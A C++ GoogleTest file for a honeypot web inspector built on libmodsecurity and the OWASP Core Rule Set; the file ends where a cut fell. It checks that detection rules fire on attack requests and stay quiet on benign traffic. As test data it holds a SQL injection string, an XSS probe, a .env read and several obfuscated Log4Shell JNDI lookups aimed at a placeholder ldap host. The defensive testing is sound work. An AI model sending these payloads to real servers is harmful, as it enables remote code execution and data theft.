// Inspector tests against real libmodsecurity 3.0.9 and Debian's CRS 3.3.4.
#include "probe/inspector.h"

#include <gtest/gtest.h>
#include <simdjson.h>
#include <yaml-cpp/yaml.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "common/error.h"
#include "temp_path.h"

namespace webtrap::probe {
namespace {

namespace fs = std::filesystem;

const fs::path kSourceDir = WEBTRAP_SOURCE_DIR;
const fs::path kRulesDir = kSourceDir / "rules";
const fs::path kSharedCorpus = kSourceDir / ".." / "shared" / "corpus" / "crs-gaps.jsonl";
const fs::path kSharedCorpusDir = kSourceDir / ".." / "shared" / "corpus";
const fs::path kExtraCorpus = kSourceDir / "tests" / "corpus" / "crs-gaps-extra.jsonl";

struct CorpusCase {
  std::string name;
  CapturedRequest request;
};

CapturedRequest makeRequest(std::string method, std::string target,
                            std::vector<HeaderField> headers, std::string body = "") {
  CapturedRequest request;
  request.connection_id = "test-connection";
  request.client = {"192.0.2.55", 40000};
  request.server = {"198.51.100.1", 80};
  request.parsed = true;
  request.method = std::move(method);
  request.target = std::move(target);
  request.http_version = "1.1";
  request.headers = std::move(headers);
  // The corpus lines leave Content-Length out. A real client sends it with a
  // body, and CRS 920170 and 920180 read it.
  if (!body.empty() && findHeader(request.headers, "Content-Length") == nullptr) {
    request.headers.push_back({"Content-Length", std::to_string(body.size())});
  }
  request.body = std::move(body);
  request.body_size = request.body.size();
  return request;
}

std::vector<HeaderField> browserHeaders() {
  return {
      {"Host", "www.example.com"},
      {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"},
      {"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
      {"Accept-Language", "en-US,en;q=0.5"},
      {"Accept-Encoding", "gzip, deflate, br"},
      {"Connection", "keep-alive"},
  };
}

std::vector<HeaderField> withHeaders(std::vector<HeaderField> extra) {
  auto headers = browserHeaders();
  headers.insert(headers.end(), extra.begin(), extra.end());
  return headers;
}

PersonaResponse pageResponse() {
  PersonaResponse response;
  response.status = 200;
  response.reason = "OK";
  response.headers = {{"Content-Type", "text/html; charset=utf-8"}, {"Server", "nginx"}};
  response.body = "<html><head><title>Welcome</title></head><body><p>Hello</p></body></html>";
  return response;
}

std::vector<CorpusCase> loadCorpus(const fs::path& path) {
  std::vector<CorpusCase> cases;
  std::ifstream in(path);
  simdjson::dom::parser parser;
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty()) {
      continue;
    }
    simdjson::dom::element document = parser.parse(line);
    std::vector<HeaderField> headers;
    for (simdjson::dom::element pair : document["headers"].get_array()) {
      simdjson::dom::array fields = pair.get_array();
      headers.push_back({std::string(std::string_view(fields.at(0))),
                         std::string(std::string_view(fields.at(1)))});
    }
    CorpusCase entry;
    entry.name = std::string(std::string_view(document["name"]));
    entry.request = makeRequest(std::string(std::string_view(document["method"])),
                                std::string(std::string_view(document["uri"])), headers,
                                std::string(std::string_view(document["body"])));
    cases.push_back(std::move(entry));
  }
  return cases;
}

bool hasTag(const RuleMatch& match, std::string_view tag) {
  return std::find(match.tags.begin(), match.tags.end(), tag) != match.tags.end();
}

const RuleMatch* findMatch(const InspectionResult& result, std::string_view id) {
  for (const auto& match : result.matches) {
    if (match.id == id) {
      return &match;
    }
  }
  return nullptr;
}

std::vector<std::string> idsWithTag(const InspectionResult& result, std::string_view tag) {
  std::vector<std::string> ids;
  for (const auto& match : result.matches) {
    if (hasTag(match, tag)) {
      ids.push_back(match.id);
    }
  }
  return ids;
}

// Attack categories other than the protocol and policy ones (920xxx,
// 911100), which fire on odd but harmless requests too.
std::vector<std::string> attackIds(const InspectionResult& result) {
  std::vector<std::string> ids;
  for (const auto& match : result.matches) {
    bool attack = std::any_of(match.tags.begin(), match.tags.end(), [](const std::string& tag) {
      return tag.rfind("attack-", 0) == 0 && tag != "attack-protocol" && tag != "attack-generic";
    });
    if (attack) {
      ids.push_back(match.id);
    }
  }
  return ids;
}

std::string joined(const std::vector<std::string>& ids) {
  std::string text;
  for (const auto& id : ids) {
    text += id + " ";
  }
  return text;
}

InspectorConfig baseConfig(int paranoia_level = 1, std::size_t cache_entries = 0) {
  InspectorConfig config;
  config.webtrap_rules = kRulesDir;
  config.paranoia_level = paranoia_level;
  config.cache_entries = cache_entries;
  return config;
}

class InspectorTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    metrics_ = new MetricsRegistry();
    inspector_ = new Inspector(baseConfig(), *metrics_);
  }
  static void TearDownTestSuite() {
    delete inspector_;
    delete metrics_;
    inspector_ = nullptr;
    metrics_ = nullptr;
  }

  InspectionResult inspect(const CapturedRequest& request, const RouteOutcome& outcome = {}) {
    return inspector_->inspect(request, pageResponse(), outcome, "test-transaction");
  }

  static MetricsRegistry* metrics_;
  static Inspector* inspector_;
};

MetricsRegistry* InspectorTest::metrics_ = nullptr;
Inspector* InspectorTest::inspector_ = nullptr;

TEST_F(InspectorTest, ReportsEngineAndComponents) {
  EXPECT_EQ(inspector_->engineVersion().rfind("ModSecurity v3.0.9", 0), 0u)
      << inspector_->engineVersion();
  const auto& components = inspector_->components();
  EXPECT_NE(std::find(components.begin(), components.end(), "OWASP_CRS/3.3.4"), components.end());
  EXPECT_NE(std::find(components.begin(), components.end(), "webtrap-rules/1.0"), components.end());
}

TEST_F(InspectorTest, BenignGetHasNoAttackMatches) {
  auto result = inspect(makeRequest("GET", "/blog/2024/03/release-notes.html?page=2",
                                    withHeaders({{"Referer", "https://www.example.com/blog/"}})));

  EXPECT_EQ(result.status, InspectionStatus::kComplete);
  EXPECT_TRUE(result.error.empty());
  EXPECT_EQ(attackIds(result), std::vector<std::string>{});
  EXPECT_EQ(result.anomaly_score, 0);
  EXPECT_GE(result.duration_us, 0);
}

TEST_F(InspectorTest, SqliQueryMatches942100WithCategory) {
  auto result = inspect(
      makeRequest("GET", "/products?id=1%27%20OR%20%271%27%3D%271%27--%20-", browserHeaders()));

  const RuleMatch* sqli = findMatch(result, "942100");
  ASSERT_NE(sqli, nullptr) << joined(idsWithTag(result, "OWASP_CRS"));
  EXPECT_TRUE(hasTag(*sqli, "attack-sqli"));
  EXPECT_EQ(sqli->phase, 2);
  EXPECT_NE(sqli->file.find("REQUEST-942"), std::string::npos);
  EXPECT_GT(sqli->line, 0);
  EXPECT_GE(result.anomaly_score, 5);
}

TEST_F(InspectorTest, MatchCarriesRuleMetadata) {
  auto result = inspect(makeRequest("GET", "/.env", browserHeaders()));

  const RuleMatch* lfi = findMatch(result, "930130");
  ASSERT_NE(lfi, nullptr);
  EXPECT_FALSE(lfi->message.empty());
  EXPECT_NE(lfi->data.find(".env"), std::string::npos) << lfi->data;
  EXPECT_FALSE(lfi->match.empty());
  EXPECT_EQ(lfi->version, "OWASP_CRS/3.3.4");
  EXPECT_EQ(lfi->severity, 2);  // CRITICAL
  EXPECT_TRUE(hasTag(*lfi, "attack-lfi"));
  EXPECT_TRUE(hasTag(*lfi, "paranoia-level/1"));
}

TEST_F(InspectorTest, SharedCorpusMatchesGapRules) {
  auto cases = loadCorpus(kSharedCorpus);
  ASSERT_GE(cases.size(), 3u) << kSharedCorpus;
  for (const auto& entry : cases) {
    SCOPED_TRACE(entry.name);
    auto result = inspect(entry.request);
    EXPECT_EQ(result.status, InspectionStatus::kComplete);
    EXPECT_FALSE(idsWithTag(result, "webtrap/gap").empty()) << joined(attackIds(result));
  }
}

TEST_F(InspectorTest, ExtraCorpusMatchesGapRules) {
  auto cases = loadCorpus(kExtraCorpus);
  ASSERT_GE(cases.size(), 15u) << kExtraCorpus;
  for (const auto& entry : cases) {
    SCOPED_TRACE(entry.name);
    auto result = inspect(entry.request);
    EXPECT_EQ(result.status, InspectionStatus::kComplete);
    auto gap_ids = idsWithTag(result, "webtrap/gap");
    EXPECT_FALSE(gap_ids.empty());
    for (const auto& id : gap_ids) {
      int number = std::stoi(id);
      EXPECT_GE(number, 77100);
      EXPECT_LE(number, 77299);
    }
  }
}

// The shared corpus's ftw YAML cases name the most specific rule that
// libmodsecurity 3.0.9 with CRS 3.3.4 at paranoia level 1 reports.
TEST_F(InspectorTest, SharedYamlCorpusMatchesExpectedRule) {
  int checked = 0;
  for (const auto& entry : fs::directory_iterator(kSharedCorpusDir)) {
    if (entry.path().extension() != ".yaml") {
      continue;
    }
    SCOPED_TRACE(entry.path().filename().string());
    YAML::Node root = YAML::LoadFile(entry.path().string());
    for (const auto& test : root["tests"]) {
      for (const auto& stage : test["stages"]) {
        const YAML::Node& input = stage["stage"]["input"];
        std::vector<HeaderField> headers;
        for (const auto& header : input["headers"]) {
          headers.push_back({header.first.as<std::string>(), header.second.as<std::string>()});
        }
        std::string body = input["data"] ? input["data"].as<std::string>() : "";
        auto request = makeRequest(input["method"].as<std::string>(),
                                   input["uri"].as<std::string>(), headers, body);
        std::string expected = stage["stage"]["output"]["log_contains"].as<std::string>();
        auto first_quote = expected.find('"');
        auto last_quote = expected.rfind('"');
        ASSERT_NE(first_quote, last_quote) << expected;
        std::string id = expected.substr(first_quote + 1, last_quote - first_quote - 1);

        auto result = inspect(request);
        EXPECT_NE(findMatch(result, id), nullptr)
            << "expected " << id << ", got " << joined(attackIds(result));
        ++checked;
      }
    }
  }
  EXPECT_GE(checked, 9);
}

// Keeps the gap corpus honest: if a CRS update starts detecting a shape, this
// test names it, and the line belongs in a regular corpus instead.
TEST(InspectorCrsOnly, CrsMissesEveryGapCorpusLine) {
  MetricsRegistry metrics;
  InspectorConfig config = baseConfig();
  config.webtrap_rules.clear();
  Inspector inspector(config, metrics);

  auto cases = loadCorpus(kSharedCorpus);
  auto extra = loadCorpus(kExtraCorpus);
  cases.insert(cases.end(), extra.begin(), extra.end());
  for (const auto& entry : cases) {
    SCOPED_TRACE(entry.name);
    auto result = inspector.inspect(entry.request, pageResponse(), {}, "crs-only");
    EXPECT_EQ(attackIds(result), std::vector<std::string>{});
  }
}

TEST_F(InspectorTest, Log4ShellVariantsMatch) {
  struct Case {
    std::string name;
    CapturedRequest request;
    std::string rule;
  };
  std::vector<Case> cases;
  cases.push_back({"query argument",
                   makeRequest("GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.10%2Fa%7D",
                               browserHeaders()),
                   "77100"});
  cases.push_back({"double encoded uri",
                   makeRequest("GET", "/%2524%257Bjndi%253Armi%253A%252F%252F192.0.2.10%252Fa%257D",
                               browserHeaders()),
                   "77100"});
  cases.push_back(
      {"upper case header",
       makeRequest("GET", "/", withHeaders({{"X-Forwarded-For", "${JNDI:dns://192.0.2.10/a}"}})),
       "77100"});
  cases.push_back(
      {"json body with ::- defaults",
       makeRequest("POST", "/api/login", withHeaders({{"Content-Type", "application/json"}}),
                   R"({"user":"${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.10/x}"})"),
       "77101"});
  cases.push_back({"cookie with env defaults",
                   makeRequest("GET", "/",
                               withHeaders({{"Cookie",
                                             "id=${${env:NaN:-j}ndi${env:NaN:-:}ldap://"
                                             "192.0.2.10/a}"}})),
                   "77101"});
  cases.push_back({"text body",
                   makeRequest("POST", "/feedback", withHeaders({{"Content-Type", "text/plain"}}),
                               "${jndi:ldap://192.0.2.10/body}"),
                   "77100"});

  for (const auto& entry : cases) {
    SCOPED_TRACE(entry.name);
    auto result = inspect(entry.request);
    const RuleMatch* match = findMatch(result, entry.rule);
    ASSERT_NE(match, nullptr) << joined(idsWithTag(result, "webtrap/gap"));
    EXPECT_TRUE(hasTag(*match, "attack-injection-java"));
    EXPECT_TRUE(hasTag(*match, "cve/CVE-2021-44228"));
  }
}

TEST_F(InspectorTest, BenignTrafficHasNoGapMatches) {
  std::vector<std::pair<std::string, CapturedRequest>> cases;
  cases.emplace_back("home page",
                     makeRequest("GET", "/", withHeaders({{"Sec-Fetch-Mode", "navigate"}})));
  cases.emplace_back("article with cookies",
                     makeRequest("GET", "/blog/2024/03/how-we-scaled-our-api.html",
                                 withHeaders({{"Referer", "https://www.example.com/blog/"},
                                              {"Cookie",
                                               "_ga=GA1.2.1234567890.1700000000; "
                                               "session=8f3a9c2e7b1d4f60; theme=dark"}})));
  cases.emplace_back(
      "search", makeRequest("GET", "/search?q=docker+containers+create&page=2", browserHeaders()));
  cases.emplace_back("docs about containers",
                     makeRequest("GET", "/docs/containers/create-a-container", browserHeaders()));
  cases.emplace_back("script asset", makeRequest("GET", "/assets/script.js", browserHeaders()));
  cases.emplace_back("api list", makeRequest("GET", "/api/v1/products?category=shoes&limit=20",
                                             withHeaders({{"Accept", "application/json"}})));
  cases.emplace_back(
      "login form",
      makeRequest("POST", "/login",
                  withHeaders({{"Content-Type", "application/x-www-form-urlencoded"},
                               {"Origin", "https://www.example.com"}}),
                  "username=alice%40example.com&password=correct+horse+battery+staple&bags=false"));
  cases.emplace_back(
      "contact form",
      makeRequest("POST", "/contact",
                  withHeaders({{"Content-Type", "application/x-www-form-urlencoded"}}),
                  "name=Bob+Smith&email=bob%40example.org&message=Order+%2312345+is+late.+"
                  "Could+you+check%3F&command=send"));
  cases.emplace_back(
      "json post with a template string",
      makeRequest(
          "POST", "/api/v1/cart/items",
          withHeaders({{"Content-Type", "application/json"},
                       {"Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"}}),
          R"({"productId":"sku-2231","quantity":2,"note":"Total: ${price}","script":"none"})"));
  cases.emplace_back(
      "xml post",
      makeRequest("POST", "/api/feed", withHeaders({{"Content-Type", "application/xml"}}),
                  R"(<?xml version="1.0" encoding="UTF-8"?><feed><entry>Hi</entry></feed>)"));
  cases.emplace_back(
      "multipart upload",
      makeRequest(
          "POST", "/profile/avatar",
          withHeaders({{"Content-Type", "multipart/form-data; boundary=XyZ"}}),
          "--XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.png\"\r\n"
          "Content-Type: image/png\r\n\r\nPNGDATA\r\n--XyZ--\r\n"));

  for (const auto& [name, request] : cases) {
    SCOPED_TRACE(name);
    auto result = inspect(request);
    EXPECT_EQ(result.status, InspectionStatus::kComplete);
    EXPECT_EQ(idsWithTag(result, "webtrap/gap"), std::vector<std::string>{});
    EXPECT_EQ(idsWithTag(result, "webtrap/honeytrap"), std::vector<std::string>{});
  }
}

TEST_F(InspectorTest, HoneytrapTxVariablesProduceRules) {
  struct Case {
    std::map<std::string, std::string> tx;
    std::string rule;
    std::string bait_tag;
    std::string data_part;
  };
  std::vector<Case> cases = {
      {{{"webtrap_bait_listener", "1"}}, "77000", "webtrap/bait/fake_port", "80"},
      {{{"webtrap_trap", "robots"}, {"webtrap_trap_path", "/backup-2019/"}},
       "77010",
       "webtrap/bait/robots_trap",
       "/backup-2019/"},
      {{{"webtrap_trap", "comment"}, {"webtrap_trap_path", "/old-admin/"}},
       "77011",
       "webtrap/bait/comment_trap",
       "/old-admin/"},
      {{{"webtrap_cookie_tampered", "role=admin"}}, "77020", "webtrap/bait/cookie", "role=admin"},
      {{{"webtrap_canary_user", "backupadmin"}, {"webtrap_canary_password", "Winter2024!"}},
       "77030",
       "webtrap/bait/credential_canary",
       "backupadmin"},
      {{{"webtrap_honeytoken", "AKIAWEBTRAP0000TOKEN"},
        {"webtrap_honeytoken_issued_to", "192.0.2.77"}},
       "77040",
       "webtrap/bait/honeytoken",
       "AKIAWEBTRAP0000TOKEN"},
  };

  for (const auto& entry : cases) {
    SCOPED_TRACE(entry.rule);
    RouteOutcome outcome;
    outcome.tx = entry.tx;
    auto result = inspect(makeRequest("GET", "/", browserHeaders()), outcome);

    const RuleMatch* match = findMatch(result, entry.rule);
    ASSERT_NE(match, nullptr) << joined(idsWithTag(result, "webtrap/honeytrap"));
    EXPECT_EQ(idsWithTag(result, "webtrap/honeytrap"), std::vector<std::string>{entry.rule});
    EXPECT_TRUE(hasTag(*match, "webtrap/honeytrap"));
    EXPECT_TRUE(hasTag(*match, entry.bait_tag));
    EXPECT_NE(match->data.find(entry.data_part), std::string::npos) << match->data;
    EXPECT_EQ(match->phase, 1);
    EXPECT_GE(match->severity, 0);
  }
}

TEST_F(InspectorTest, HoneytokenDataNamesIssuedAddress) {
  RouteOutcome outcome;
  outcome.tx = {{"webtrap_honeytoken", "AKIAWEBTRAP0000TOKEN"},
                {"webtrap_honeytoken_issued_to", "192.0.2.77"}};
  auto result = inspect(makeRequest("GET", "/", browserHeaders()), outcome);

  const RuleMatch* match = findMatch(result, "77040");
  ASSERT_NE(match, nullptr);
  EXPECT_NE(match->data.find("192.0.2.77"), std::string::npos) << match->data;
}

TEST_F(InspectorTest, CanaryPasswordStaysOutOfMessage) {
  RouteOutcome outcome;
  outcome.tx = {{"webtrap_canary_user", "backupadmin"}, {"webtrap_canary_password", "Winter2024!"}};
  auto result = inspect(makeRequest("GET", "/admin/", browserHeaders()), outcome);

  const RuleMatch* match = findMatch(result, "77030");
  ASSERT_NE(match, nullptr);
  EXPECT_EQ(match->data.find("Winter2024!"), std::string::npos) << match->data;
  EXPECT_EQ(match->match.find("Winter2024!"), std::string::npos) << match->match;
  EXPECT_EQ(match->message.find("Winter2024!"), std::string::npos) << match->message;
}

TEST_F(InspectorTest, HoneytrapSilentWithoutTx) {
  auto result = inspect(makeRequest("GET", "/robots.txt", browserHeaders()));

  EXPECT_EQ(idsWithTag(result, "webtrap/honeytrap"), std::vector<std::string>{});
}

TEST_F(InspectorTest, BagsFalseHasNoHit) {
  auto result = inspect(makeRequest(
      "POST", "/contact", withHeaders({{"Content-Type", "application/x-www-form-urlencoded"}}),
      "name=Bob&bags=false"));

  EXPECT_EQ(findMatch(result, "77050"), nullptr);
}

TEST_F(InspectorTest, BagsAbsentHasNoHit) {
  auto result = inspect(makeRequest(
      "POST", "/contact", withHeaders({{"Content-Type", "application/x-www-form-urlencoded"}}),
      "name=Bob&email=bob%40example.org"));

  EXPECT_EQ(findMatch(result, "77050"), nullptr);
}

TEST_F(InspectorTest, BagsTrueInBodyHits) {
  auto result = inspect(makeRequest(
      "POST", "/contact", withHeaders({{"Content-Type", "application/x-www-form-urlencoded"}}),
      "name=Bob&bags=true"));

  const RuleMatch* match = findMatch(result, "77050");
  ASSERT_NE(match, nullptr);
  EXPECT_TRUE(hasTag(*match, "webtrap/bait/form_field"));
  EXPECT_NE(match->data.find("true"), std::string::npos) << match->data;
  EXPECT_EQ(match->phase, 2);
}

TEST_F(InspectorTest, BagsInJsonBody) {
  auto changed = inspect(makeRequest("POST", "/api/contact",
                                     withHeaders({{"Content-Type", "application/json"}}),
                                     R"({"name":"Bob","bags":"true"})"));
  auto unchanged = inspect(makeRequest("POST", "/api/contact",
                                       withHeaders({{"Content-Type", "application/json"}}),
                                       R"({"name":"Bob","bags":"false"})"));

  auto boolean = inspect(makeRequest("POST", "/api/contact",
                                     withHeaders({{"Content-Type", "application/json"}}),
                                     R"({"name":"Bob","bags":false})"));

  EXPECT_NE(findMatch(changed, "77050"), nullptr);
  EXPECT_EQ(findMatch(unchanged, "77050"), nullptr);
  EXPECT_EQ(findMatch(boolean, "77050"), nullptr);
}

TEST_F(InspectorTest, BagsEmptyInQueryHits) {
  auto result = inspect(makeRequest("GET", "/contact?bags=", browserHeaders()));

  EXPECT_NE(findMatch(result, "77050"), nullptr);
}

TEST(InspectorCache, SameBytesReturnCached) {
  MetricsRegistry metrics;
  Inspector inspector(baseConfig(1, 16), metrics);
  auto request =
      makeRequest("GET", "/products?id=1%27%20OR%20%271%27%3D%271%27--%20-", browserHeaders());

  auto first = inspector.inspect(request, pageResponse(), {}, "cache-1");
  // The client address, port and transaction id stay out of the cache key.
  request.client = {"192.0.2.99", 51000};
  auto second = inspector.inspect(request, pageResponse(), {}, "cache-2");

  EXPECT_EQ(first.status, InspectionStatus::kComplete);
  EXPECT_EQ(second.status, InspectionStatus::kCached);
  ASSERT_EQ(first.matches.size(), second.matches.size());
  ASSERT_FALSE(first.matches.empty());
  for (std::size_t i = 0; i < first.matches.size(); ++i) {
    EXPECT_EQ(first.matches[i].id, second.matches[i].id);
    EXPECT_EQ(first.matches[i].message, second.matches[i].message);
    EXPECT_EQ(first.matches[i].data, second.matches[i].data);
    EXPECT_EQ(first.matches[i].tags, second.matches[i].tags);
  }
  EXPECT_EQ(first.anomaly_score, second.anomaly_score);

  std::string text = metrics.render();
  EXPECT_NE(text.find("webtrap_inspection_cache_hits_total 1"), std::string::npos) << text;
  EXPECT_NE(text.find(R"(webtrap_inspections_total{status="cached"} 1)"), std::string::npos);
  EXPECT_NE(text.find(R"(webtrap_inspections_total{status="complete"} 1)"), std::string::npos);
}

TEST(InspectorCache, VolatileResponseHeadersStillHit) {
  MetricsRegistry metrics;
  Inspector inspector(baseConfig(1, 16), metrics);
  auto request = makeRequest("GET", "/index.php?q=%3Cscript%3E", browserHeaders());
  PersonaResponse first_response = pageResponse();
  first_response.headers.push_back({"Date", "Fri, 04 Dec 2026 13:56:11 GMT"});
  first_response.headers.push_back({"Set-Cookie", "PHPSESSID=aaaa; path=/"});
  PersonaResponse second_response = pageResponse();
  second_response.headers.push_back({"Date", "Fri, 04 Dec 2026 13:56:12 GMT"});
  second_response.headers.push_back({"Set-Cookie", "PHPSESSID=bbbb; path=/"});
  PersonaResponse other_type = second_response;
  other_type.headers.push_back({"Content-Type", "application/octet-stream"});

  auto first = inspector.inspect(request, first_response, {}, "v1");
  auto second = inspector.inspect(request, second_response, {}, "v2");
  auto third = inspector.inspect(request, other_type, {}, "v3");

  EXPECT_EQ(first.status, InspectionStatus::kComplete);
  EXPECT_EQ(second.status, InspectionStatus::kCached);
  // Content-Type decides whether the response body is read, so it counts.
  EXPECT_EQ(third.status, InspectionStatus::kComplete);
}

TEST(InspectorCache, DifferentBytesRunAgain) {
  MetricsRegistry metrics;
  Inspector inspector(baseConfig(1, 16), metrics);
  auto request = makeRequest("POST", "/contact",
                             withHeaders({{"Content-Type", "application/x-www-form-urlencoded"}}),
                             "name=Bob&bags=false");
  auto changed = makeRequest("POST", "/contact",
                             withHeaders({{"Content-Type", "application/x-www-form-urlencoded"}}),
                             "name=Bob&bags=true!");
  RouteOutcome with_tx;
  with_tx.tx = {{"webtrap_bait_listener", "1"}};

  auto first = inspector.inspect(request, pageResponse(), {}, "a");
  auto body_changed = inspector.inspect(changed, pageResponse(), {}, "b");
  auto tx_changed = inspector.inspect(request, pageResponse(), with_tx, "c");
  PersonaResponse other_response = pageResponse();
  other_response.status = 404;
  auto response_changed = inspector.inspect(request, other_response, {}, "d");

  EXPECT_EQ(first.status, InspectionStatus::kComplete);
  EXPECT_EQ(body_changed.status, InspectionStatus::kComplete);
  EXPECT_NE(findMatch(body_changed, "77050"), nullptr);
  EXPECT_EQ(tx_changed.status, InspectionStatus::kComplete);
  EXPECT_NE(findMatch(tx_changed, "77000"), nullptr);
  EXPECT_EQ(response_changed.status, InspectionStatus::kComplete);
}

TEST(InspectorCache, LoopbackClientKeyedApart) {
  MetricsRegistry metrics;
  Inspector inspector(baseConfig(1, 16), metrics);
  // CRS 905110 turns the engine off for this request from a loopback client
  // only (libmodsecurity 3.0.9 still finishes phase 1), so the same bytes
  // give different phase 2 results by client address.
  auto request = makeRequest("GET", "/",
                             {{"Host", "localhost"},
                              {"User-Agent", "Apache (internal dummy connection)"},
                              {"X-Api-Version", "${jndi:ldap://192.0.2.10/a}"}});
  request.client = {"127.0.0.1", 40000};

  auto loopback = inspector.inspect(request, pageResponse(), {}, "a");
  request.client = {"192.0.2.55", 40000};
  auto remote = inspector.inspect(request, pageResponse(), {}, "b");

  EXPECT_EQ(loopback.status, InspectionStatus::kComplete);
  EXPECT_EQ(findMatch(loopback, "77100"), nullptr);
  EXPECT_EQ(remote.status, InspectionStatus::kComplete);
  EXPECT_NE(findMatch(remote, "77100"), nullptr);
}

TEST(InspectorCache, AddressRuleKeysByClient) {
  test_support::TempFile rule_file("webtrap-inspector-test-address",
                                   "SecRule REMOTE_ADDR \"@ipMatch 192.0.2.99\" "
                                   "\"id:77998,phase:1,pass,log,msg:'Listed client'\"\n",
                                   ".conf");
  MetricsRegistry metrics;
  InspectorConfig config = baseConfig(1, 16);
  config.extra_rules = {rule_file.path()};
  Inspector inspector(config, metrics);
  auto request = makeRequest("GET", "/", browserHeaders());

  auto unlisted = inspector.inspect(request, pageResponse(), {}, "a");
  request.client = {"192.0.2.99", 40000};
  auto listed = inspector.inspect(request, pageResponse(), {}, "b");

  EXPECT_EQ(findMatch(unlisted, "77998"), nullptr);
  EXPECT_EQ(listed.status, InspectionStatus::kComplete);
  EXPECT_NE(findMatch(listed, "77998"), nullptr);
}

TEST(InspectorCache, EvictsLeastRecentlyUsed) {
  MetricsRegistry metrics;
  Inspector inspector(baseConfig(1, 2), metrics);
  auto first = makeRequest("GET", "/a", browserHeaders());
  auto second = makeRequest("GET", "/b", browserHeaders());
  auto third = makeRequest("GET", "/c", browserHeaders());

  inspector.inspect(first, pageResponse(), {}, "1");
  inspector.inspect(second, pageResponse(), {}, "2");
  EXPECT_EQ(inspector.inspect(first, pageResponse(), {}, "3").status, InspectionStatus::kCached);
  inspector.inspect(third, pageResponse(), {}, "4");  // evicts /b, the least recently used

  EXPECT_EQ(inspector.inspect(first, pageResponse(), {}, "5").status, InspectionStatus::kCached);
  EXPECT_EQ(inspector.inspect(second, pageResponse(), {}, "6").status, InspectionStatus::kComplete);
}

TEST(InspectorParanoia, Level2FindsWhatLevel1Misses) {
  MetricsRegistry metrics;
  Inspector level1(baseConfig(1), metrics);
  Inspector level2(baseConfig(2), metrics);
  // 920320 (missing User-Agent) is a paranoia level 2 rule in CRS 3.3.4.
  auto request = makeRequest("GET", "/", {{"Host", "www.example.com"}, {"Accept", "*/*"}});

  auto at_level1 = level1.inspect(request, pageResponse(), {}, "pl1");
  auto at_level2 = level2.inspect(request, pageResponse(), {}, "pl2");

  EXPECT_EQ(findMatch(at_level1, "920320"), nullptr);
  const RuleMatch* match = findMatch(at_level2, "920320");
  ASSERT_NE(match, nullptr);
  EXPECT_TRUE(hasTag(*match, "paranoia-level/2"));
}

// Runs with the cache off and with a cache small enough that the threads
// evict each other's entries all the time.
class InspectorThreads : public ::testing::TestWithParam<std::size_t> {};

TEST_P(InspectorThreads, ConcurrentResultsMatchSerial) {
  MetricsRegistry metrics;
  Inspector reference(baseConfig(), metrics);
  Inspector inspector(baseConfig(1, GetParam()), metrics);
  std::vector<CapturedRequest> requests;
  for (auto& entry : loadCorpus(kExtraCorpus)) {
    requests.push_back(std::move(entry.request));
  }
  for (auto& entry : loadCorpus(kSharedCorpus)) {
    requests.push_back(std::move(entry.request));
  }
  requests.push_back(
      makeRequest("GET", "/products?id=1%27%20OR%20%271%27%3D%271%27--%20-", browserHeaders()));
  requests.push_back(makeRequest("GET", "/", browserHeaders()));

  auto idsOf = [](const InspectionResult& result) {
    std::vector<std::string> ids;
    for (const auto& match : result.matches) {
      ids.push_back(match.id + "|" + match.data);
    }
    return ids;
  };
  std::vector<std::vector<std::string>> serial;
  for (const auto& request : requests) {
    serial.push_back(idsOf(reference.inspect(request, pageResponse(), {}, "serial")));
  }

  constexpr int kThreads = 8;
  constexpr int kRounds = 3;
  std::vector<std::vector<std::vector<std::string>>> first_round(kThreads);
  std::vector<int> later_round_differences(kThreads, 0);
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      first_round[t].resize(requests.size());
      for (int round = 0; round < kRounds; ++round) {
        for (std::size_t i = 0; i < requests.size(); ++i) {
          // Each thread starts at a different request, so that different
          // rules run at the same moment.
          std::size_t index = (i + static_cast<std::size_t>(t)) % requests.size();
          auto ids = idsOf(inspector.inspect(requests[index], pageResponse(), {},
                                             "thread-" + std::to_string(t)));
          if (round == 0) {
            first_round[t][index] = std::move(ids);
          } else if (ids != first_round[t][index]) {
            ++later_round_differences[t];
          }
        }
      }
    });
  }
  for (auto& thread : threads) {
    thread.join();
  }

  for (int t = 0; t < kThreads; ++t) {
    EXPECT_EQ(later_round_differences[t], 0) << "thread " << t;
    for (std::size_t i = 0; i < requests.size(); ++i) {
      EXPECT_EQ(first_round[t][i], serial[i]) << "thread " << t << " request " << i;
    }
  }
}

INSTANTIATE_TEST_SUITE_P(CacheSizes, InspectorThreads, ::testing::Values(0, 4));

TEST(InspectorRobustness, UnparsedRequestDoesNotThrow) {
  MetricsRegistry metrics;
  Inspector inspector(baseConfig(), metrics);
  CapturedRequest request;
  request.client = {"192.0.2.55", 40000};
  request.parsed = false;
  request.parse_error = "bad method";
  request.headers = {{"", ""}, {"X-Binary", std::string("\0\xff\xfe", 3)}};
  request.body = std::string("\0\0<?php", 7);

  InspectionResult result;
  EXPECT_NO_THROW(result = inspector.inspect(request, PersonaResponse{}, {}, "unparsed"));
  EXPECT_TRUE(result.status == InspectionStatus::kComplete ||
              result.status == InspectionStatus::kFailed);
}

TEST(InspectorRobustness, UnusualRequestsComplete) {
  MetricsRegistry metrics;
  InspectorConfig config = baseConfig();
  config.body_limit = 1024;
  Inspector inspector(config, metrics);
  std::vector<std::pair<std::string, CapturedRequest>> cases;
  cases.emplace_back("body over the limit",
                     makeRequest("POST", "/upload", withHeaders({{"Content-Type", "text/plain"}}),
                                 std::string(4096, 'a')));
  cases.emplace_back("absolute form",
                     makeRequest("GET", "http://www.example.com/x?y=1", browserHeaders()));
  cases.emplace_back("authority form",
                     makeRequest("CONNECT", "www.example.com:443", browserHeaders()));
  cases.emplace_back("asterisk form", makeRequest("OPTIONS", "*", browserHeaders()));
  cases.emplace_back("nul in header",
                     makeRequest("GET", "/", withHeaders({{"X-Odd", std::string("a\0b", 3)}})));
  cases.emplace_back(
      "invalid json body",
      makeRequest("POST", "/api", withHeaders({{"Content-Type", "application/json"}}),
